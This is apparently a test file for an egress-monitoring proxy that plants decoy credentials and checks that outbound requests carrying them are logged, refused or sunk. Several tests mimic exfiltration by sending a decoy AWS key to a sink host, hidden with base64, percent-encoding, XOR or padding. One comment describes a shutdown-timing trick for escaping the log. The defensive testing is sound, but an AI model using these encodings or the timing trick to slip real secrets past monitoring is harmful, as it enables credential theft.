def test_stop_is_graceful_and_logs_tunnels_still_open(tmp_path: Path) -> None:
    config = make_config(tmp_path, make_decoys(), labels=["smoke/smoke"])
    handle = start_proxy(config)
    port = handle.ports["smoke/smoke"]
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(b"CONNECT idle.exfil.test:443 HTTP/1.1\r\nHost: idle.exfil.test\r\n\r\n")
        assert sock.recv(4096).startswith(b"HTTP/1.1 200")
        assert handle.stop() == 0
    (rec,) = parse_egress_log(config.log_path.read_bytes()).records
    assert (rec["host"], rec["method"], rec["action"]) == ("idle.exfil.test", "CONNECT", "refused")
    assert rec["label"] == "smoke/smoke"


@pytest.mark.parametrize("sent", ["whole", "half"])
def test_a_request_the_proxy_still_holds_when_the_run_stops_it_is_logged_with_its_decoy(
    tmp_path: Path, sent: str
) -> None:
    # The attack: hand the proxy a decoy ahead of a body that takes long to search, at the
    # very end of the run, and never wait for the answer. Stopping the proxy cancelled
    # the hook waiting for the search (whole) or the body still arriving (half): the
    # line was never written and the run came out clean.
    decoys = make_decoys()
    config = make_config(tmp_path, decoys, labels=["tests/test"])
    handle = start_proxy(config)
    aws = next(d for d in decoys if d.name == "AWS_SECRET_ACCESS_KEY").value.encode()
    padding = b"QUJD" * (1 << 20)  # 4 MiB of base64's alphabet: decoded as it is searched
    body = base64.b64encode(aws) + padding
    length = len(body) if sent == "whole" else 2 * len(body)
    head = f"POST http://{SINK}/late HTTP/1.1\r\nHost: {SINK}\r\nContent-Length: {length}\r\n\r\n"
    with socket.create_connection(("127.0.0.1", handle.ports["tests/test"]), timeout=60) as sock:
        sock.sendall(head.encode() + body)
        # Stopped once the proxy holds the whole of what was sent (its spool file).
        spool = config.confdir / "spool"
        deadline = time.monotonic() + 120
        while sum(f.stat().st_size for f in spool.glob("body-*")) < len(body):
            if b'"POST"' in config.log_path.read_bytes():
                break  # searched and logged already: nothing was left to hold
            assert time.monotonic() < deadline, "the proxy never read the body"
            time.sleep(0.01)
        assert handle.stop() == 0  # it finished what it held, and was not killed
    (rec,) = [r for r in parse_egress_log(config.log_path.read_bytes()).records
              if r["method"] == "POST"]  # fmt: skip
    assert rec["url"] == f"http://{SINK}/late"
    assert rec["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    # Half a body is the client gone mid-body; a whole one was being searched or had just
    # arrived (answered or not, the same line).
    assert rec["action"] in (("sunk", "refused") if sent == "whole" else ("refused",))
    assert list((config.confdir / "spool").iterdir()) == []  # its spool went with it


def test_start_refuses_a_used_confdir_and_reports_a_proxy_that_dies(tmp_path: Path) -> None:
    used = tmp_path / "used"
    (used / "confdir").mkdir(parents=True)
    (used / "confdir" / "mitmproxy-ca.pem").write_text("old")
    with pytest.raises(ProxyError, match="not empty"):
        start_proxy(make_config(used, ()))

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        config = make_config(
            tmp_path, (), labels=["install/install"], ports={"install/install": port}
        )
        with pytest.raises(ProxyError, match=f"(?s)exited with 1.*failed to listen.*{port}"):
            start_proxy(config, timeout=30)


def test_the_ca_bundle_is_the_system_cas_then_the_run_ca(tmp_path: Path) -> None:
    ca = tmp_path / "ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nrun\n-----END CERTIFICATE-----\n")
    bundle = write_ca_bundle(ca, tmp_path / "out" / "bundle.pem")
    text = bundle.read_text()
    assert text.startswith(SYSTEM_CA.read_text().rstrip("\n"))
    assert text.endswith(ca.read_text())
    assert bundle.stat().st_mode & 0o777 == 0o644


def test_the_proxy_dies_with_the_run_that_started_it(tmp_path: Path) -> None:
    """A run killed outright must not leave its proxy listening behind it."""
    config = make_config(tmp_path, make_decoys())
    parent = subprocess.Popen(
        [
            sys.executable,
            "-c",
            "import sys; from cujo_action.net.proxy.process import start_proxy;"
            "from cujo_action.net.proxy.config import ProxyConfig;"
            "h = start_proxy(ProxyConfig.model_validate_json(sys.stdin.read()));"
            "print(h.pid, flush=True); sys.stdin.close(); import time; time.sleep(600)",
        ],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    assert parent.stdin is not None
    assert parent.stdout is not None
    parent.stdin.write(config.model_dump_json())
    parent.stdin.close()
    proxy_pid = int(parent.stdout.readline())
    parent.stdout.close()
    assert Path(f"/proc/{proxy_pid}").exists()
    parent.kill()
    parent.wait()
    deadline = time.monotonic() + 15
    while Path(f"/proc/{proxy_pid}").exists() and time.monotonic() < deadline:
        stat = Path(f"/proc/{proxy_pid}/stat").read_text().split()
        if stat[2] == "Z":  # reaped by init soon; a zombie no longer listens
            break
        time.sleep(0.05)
    alive = (
        Path(f"/proc/{proxy_pid}").exists()
        and Path(f"/proc/{proxy_pid}/stat").read_text().split()[2] != "Z"
    )
    assert not alive, "the proxy outlived the run that started it"


# --------------------------------------------------------------------------- started early


def test_a_proxy_started_before_its_config_obeys_the_config_it_is_given(
    tmp_path: Path,
) -> None:
    """The run starts the proxy while prepare clones, before the policy's allow-list is
    known: what it forwards is what the config written later allows, nothing else."""
    warm = spawn_proxy(tmp_path / "confdir")
    upstream = Upstream()
    thread = threading.Thread(target=upstream.serve_forever, daemon=True)
    thread.start()
    config = make_config(tmp_path, make_decoys(), allow_hosts=["localhost"])
    handle = start_proxy(config, warm=warm)
    try:
        assert handle.process is warm.process
        allowed, refused = f"/{tag()}", f"/{tag()}"
        port = upstream.server_port
        with session() as s:
            s.get(f"http://localhost:{port}{allowed}", proxies={"http": url(handle)}, timeout=10)
            sunk = s.get(f"http://127.0.0.1:{port}{refused}", proxies={"http": url(handle)},
                         timeout=10)  # fmt: skip
        assert sunk.content == WELCOME
        assert upstream.seen == [allowed]
        log = parse_egress_log(config.log_path.read_bytes()).records
        actions = {r["url"].rsplit("/", 1)[1]: r["action"] for r in log}
        assert actions == {allowed[1:]: "forwarded", refused[1:]: "sunk"}
    finally:
        handle.stop()
        upstream.shutdown()
        upstream.server_close()
        thread.join()


def url(handle: ProxyHandle) -> str:
    return f"http://127.0.0.1:{handle.ports[LABELS[0]]}"


def test_a_proxy_started_early_and_never_told_to_go_reads_nothing(tmp_path: Path) -> None:
    warm = spawn_proxy(tmp_path / "confdir")
    assert warm.process.stdin is not None
    warm.process.stdin.close()  # the run ended (a failed prepare) before arming
    assert warm.process.wait(timeout=30) == 0
    assert warm.stderr_path.read_text() == ""  # no config read, no traceback
    assert sorted(p.name for p in (tmp_path / "confdir").iterdir()) == [warm.stderr_path.name]


def test_a_warm_proxy_refuses_a_confdir_holding_a_ca_and_is_stopped(tmp_path: Path) -> None:
    warm = spawn_proxy(tmp_path / "confdir")
    (tmp_path / "confdir" / "mitmproxy-ca.pem").write_text("planted\n")
    with pytest.raises(ProxyError, match="not empty"):
        start_proxy(make_config(tmp_path, make_decoys()), warm=warm)
    assert warm.process.poll() is not None


# --------------------------------------------------------------------------- body limits


def _post_raw(proxy: Proxy, head: str, chunks: Iterator[bytes]) -> bytes:
    """Send a request's head and body chunks through the proxy; return what it answers."""
    sock = socket.create_connection(("127.0.0.1", proxy.handle.ports[LABELS[2]]), timeout=30)
    with sock:
        sock.sendall(head.encode())
        try:
            for chunk in chunks:
                sock.sendall(chunk)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the proxy refused the rest, as it should
        answer = b""
        try:
            while chunk := sock.recv(65536):
                answer += chunk
        except ConnectionResetError:
            # The proxy closed with the rest of the body unread: the kernel answers that
            # with a reset, which can overtake the 413 already sent (a busy machine sees
            # it). What was refused is in the log either way.
            return answer or b"(reset)"
        except TimeoutError:
            pass
        return answer


@pytest.mark.parametrize("framing", ["content-length", "chunked"])
def test_a_body_over_the_limit_is_refused_logged_unsearched_and_the_proxy_serves_on(
    proxy: Proxy, framing: str
) -> None:
    path = f"/{tag()}"
    aws = proxy.decoy("AWS_SECRET_ACCESS_KEY").value.encode()
    block = os.urandom(1 << 20)
    blocks = BODY_SIZE // len(block) + 2
    first = aws + block[len(aws) :]  # the decoy in what is kept
    if framing == "chunked":
        framed = "Transfer-Encoding: chunked"
        chunks = (b"%x\r\n%s\r\n" % (len(block), first if i == 0 else block)
                  for i in range(blocks))  # fmt: skip
        body = itertools.chain(chunks, [b"0\r\n\r\n"])
    else:
        framed = f"Content-Length: {blocks * len(block)}"
        body = (first if i == 0 else block for i in range(blocks))
    head = f"POST http://{SINK}{path} HTTP/1.1\r\nHost: {SINK}\r\n{framed}\r\n\r\n"
    answer = _post_raw(proxy, head, body)
    assert answer.startswith(b"HTTP/1.1 413") or answer == b"(reset)", answer[:200]
    (rec,) = proxy.wait_records(lambda r: path in r["url"])
    assert rec["action"] == "refused"
    assert rec["unsearched"] == f"body over the proxy's limit of {BODY_SIZE // MiB} MiB"
    assert rec["label"] == LABELS[2]
    assert rec["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    assert rec["bytes_out"] > BODY_SIZE
    assert list((proxy.config.confdir / "spool").iterdir()) == []  # nothing left on disk
    # Still alive and serving.
    with session() as s:
        resp = s.get(f"http://{SINK}/{tag()}", proxies=proxy.proxies(), timeout=10)
    assert resp.status_code == 200
    assert proxy.handle.alive()


def test_a_large_legit_body_is_searched_to_its_very_end(proxy: Proxy) -> None:
    aws = proxy.decoy("AWS_SECRET_ACCESS_KEY")
    rows = b"".join(b"%d,user%d,%d\n" % (i, i, i * 7) for i in range(1_500_000))
    assert len(rows) > 24 << 20  # past the old decode budget
    path = f"/{tag()}"
    with session() as s:
        # At its very end, and percent-encoded: its url layer is past the old budget.
        hidden = "".join(f"%{b:02X}" for b in aws.value.encode()).encode()
        resp = s.post(f"http://{SINK}{path}", data=rows + hidden,
                      proxies=proxy.proxies(), timeout=60)  # fmt: skip
    assert resp.status_code == 200
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert rec["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    assert rec["decoy_where"] == ["body:url"]
    assert "unsearched" not in rec
    assert "opaque" not in rec
    # The same rows alone: searched whole, nothing found, nothing cut, readable.
    path = f"/{tag()}"
    with session() as s:
        s.post(f"http://{SINK}{path}", data=rows, proxies=proxy.proxies(), timeout=60)
    (rec,) = proxy.records(lambda r: path in r["url"])
    assert rec["decoy_seen"] == []
    assert "unsearched" not in rec
    assert "opaque" not in rec


def test_an_encrypted_upload_is_logged_opaque_and_a_readable_one_is_not(proxy: Proxy) -> None:
    aws = proxy.decoy("AWS_SECRET_ACCESS_KEY").value.encode()
    key = os.urandom(len(aws))
    xored = bytes(a ^ b for a, b in zip(aws, key, strict=True))
    sent = {
        "xor": (xored, True),
        "xor-base64": (base64.b64encode(xored), True),
        "json": (json.dumps({"build": 12, "ok": True, "msg": "done"}).encode(), False),
        "gzip-text": (gzip.compress(b"a readable log line\n" * 200), False),
    }
    paths = {}
    with session() as s:
        for name, (body, _) in sent.items():
            paths[name] = f"/{tag()}"
            s.put(f"http://{SINK}{paths[name]}", data=body, proxies=proxy.proxies(), timeout=10)
    for name, (_, opaque) in sent.items():
        (rec,) = proxy.records(lambda r, p=paths[name]: p in r["url"])  # type: ignore[misc]
        assert rec.get("opaque", False) is opaque, name


def _spooled(spool: Path, size: int, timeout: float = 15) -> int:
    """Wait until a body file in ``spool`` holds ``size`` bytes; return the most one holds."""
    deadline = time.monotonic() + timeout
    while True:
        held = 0
        for body in spool.glob("body-*"):
            with contextlib.suppress(FileNotFoundError):
                held = max(held, body.stat().st_size)
        if held >= size or time.monotonic() > deadline:
            return held
        time.sleep(0.02)


def test_a_post_streams_to_the_proxys_spool_as_it_arrives_and_is_searched(proxy: Proxy) -> None:
    """The body is on disk while the client still sends it: it never sits in the proxy.

    The proxy's peak memory after a 200 MiB POST is `python -m bench --only proxymemory`.
    """
    aws = proxy.decoy("AWS_SECRET_ACCESS_KEY").value.encode()
    spool = proxy.config.confdir / "spool"
    block = os.urandom(1 << 18)
    blocks = 8
    held: list[int] = []

    def body() -> Iterator[bytes]:
        for i in range(blocks):
            yield aws + block[len(aws) :] if i == 0 else block
            if i == blocks // 2 - 1:  # half sent, the other half not yet
                held.append(_spooled(spool, blocks // 2 * len(block)))

    path = f"/{tag()}"
    size = blocks * len(block)
    head = (
        f"POST http://{SINK}{path} HTTP/1.1\r\nHost: {SINK}\r\nContent-Length: {size}\r\n"
        "Connection: close\r\n\r\n"  # the answer ends with the connection
    )
    answer = _post_raw(proxy, head, body())
    assert answer.startswith(b"HTTP/1.1 200"), answer[:200]
    assert held == [blocks // 2 * len(block)]
    (rec,) = proxy.wait_records(lambda r: path in r["url"])
    assert rec["action"] == "sunk"
    assert rec["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
    assert rec["bytes_out"] >= size
    assert "unsearched" not in rec
    # Nothing is left on disk, and the proxy serves on.
    assert list(spool.iterdir()) == []
    with session() as s:
        resp = s.get(f"http://{SINK}/{tag()}", proxies=proxy.proxies(), timeout=10)
    assert resp.status_code == 200
